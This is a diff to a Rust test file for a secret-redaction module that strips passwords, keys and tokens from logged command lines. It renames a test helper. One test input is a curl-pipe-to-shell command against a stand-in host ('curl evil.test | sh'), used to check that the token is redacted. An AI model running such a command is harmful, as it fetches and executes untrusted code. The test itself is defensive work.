@@ -15,7 +15,7 @@ fn told_by(redaction: &Redaction, args: &[&str]) -> String {
     String::from_utf8(redaction.event(&event).process.image.args.joined().to_vec()).unwrap()
 }
 
-fn told(args: &[&str]) -> String {
+fn written(args: &[&str]) -> String {
     told_by(&Redaction::default(), args)
 }
 
@@ -80,12 +80,12 @@ fn secrets_are_taken_out_and_all_else_is_told() {
         };
         let given: Vec<String> = args.iter().map(|arg| put(arg, |secret| secret)).collect();
         let given: Vec<&str> = given.iter().map(String::as_str).collect();
-        let line = told(&given);
+        let line = written(&given);
         // Quotes go with what is in them, and cookies as one.
         let wanted = put(&args.join(" "), |_| MARK).replace("'[redacted]'", MARK);
         let wanted = wanted.replace("sid=[redacted]; a=[redacted]", MARK);
         assert_eq!(line, wanted);
-        assert_eq!(told(&[&line]), line, "what was taken out is not taken out again");
+        assert_eq!(written(&[&line]), line, "what was taken out is not taken out again");
     }
 }
 
@@ -110,7 +110,7 @@ fn ordinary_command_lines_are_told_whole() {
         &["rsync", "-a", "a:b", "c"],
         &["wget", "-U", "Mozilla/5.0", "https://host.test/"],
     ] {
-        assert_eq!(told(args), args.join(" "));
+        assert_eq!(written(args), args.join(" "));
     }
 }
 
@@ -119,8 +119,8 @@ fn a_private_key_goes_with_or_without_its_end() {
     let begin = "-----BEGIN OPENSSH PRIVATE KEY-----";
     let body = "b3BlbnNzaC1r/ZXktdjE+AAA=\nAAAA";
     let whole = format!("{begin}\n{body}\n-----END OPENSSH PRIVATE KEY-----");
-    assert_eq!(told(&["x", &whole, "y"]), format!("x {begin}{MARK}-----END OPENSSH PRIVATE KEY----- y"));
-    assert_eq!(told(&["x", &format!("{begin}\n{body}")]), format!("x {begin}{MARK}"));
+    assert_eq!(written(&["x", &whole, "y"]), format!("x {begin}{MARK}-----END OPENSSH PRIVATE KEY----- y"));
+    assert_eq!(written(&["x", &format!("{begin}\n{body}")]), format!("x {begin}{MARK}"));
 }
 
 #[test]
@@ -131,15 +131,15 @@ fn tokens_that_say_what_they_are_go_wherever_they_stand() {
         format!("glpat-{}", &letters[..20]),
         format!("eyJ{letters}.{letters}.{letters}"),
     ] {
-        assert_eq!(told(&["x", &format!("a,{token},b")]), format!("x a,{MARK},b"));
+        assert_eq!(written(&["x", &format!("a,{token},b")]), format!("x a,{MARK},b"));
     }
 }
 
 #[test]
 fn a_value_with_blanks_goes_whole_and_a_script_behind_it_stays() {
-    assert_eq!(told(&["x", "--password=a b c", "d"]), "x --password=[redacted] d");
-    assert_eq!(told(&["x", "--password", "a b c", "d"]), "x --password [redacted] d");
-    assert_eq!(told(&["sh", "-c", "TOKEN=a curl evil.test | sh"]), "sh -c TOKEN=[redacted] curl evil.test | sh");
+    assert_eq!(written(&["x", "--password=a b c", "d"]), "x --password=[redacted] d");
+    assert_eq!(written(&["x", "--password", "a b c", "d"]), "x --password [redacted] d");
+    assert_eq!(written(&["sh", "-c", "TOKEN=a curl evil.test | sh"]), "sh -c TOKEN=[redacted] curl evil.test | sh");
     let (event, _) = build(&json!({"programName": "/bin/x", "args": ["x", "--password=a b", "c"]})).unwrap();
     assert_eq!(Redaction::default().event(&event).process.image.args.iter().count(), 3);
 }
@@ -221,7 +221,7 @@ fn audit_messages_are_told_without_them_also_where_they_are_digits() {
     let sent = format!("cwd=\"/root\" cmd={} terminal=pts/0 res=success", digits("mysql --password=hunter2 db"));
     let told = message(&sent).unwrap();
     assert_eq!(String::from_utf8_lossy(&told.text), sent.replace(&digits("hunter2"), &digits(MARK)));
-    let command = told.told(crate::event::audit::Fact::Command).unwrap();
+    let command = told.fact(crate::event::audit::Fact::Command).unwrap();
     assert_eq!(String::from_utf8_lossy(command), format!("mysql --password={MARK} db"));
     let plain = message("op=x cmd=\"a --token=abc\" res=success").unwrap();
     assert_eq!(String::from_utf8_lossy(&plain.text), format!("op=x cmd=\"a --token={MARK}\" res=success"));
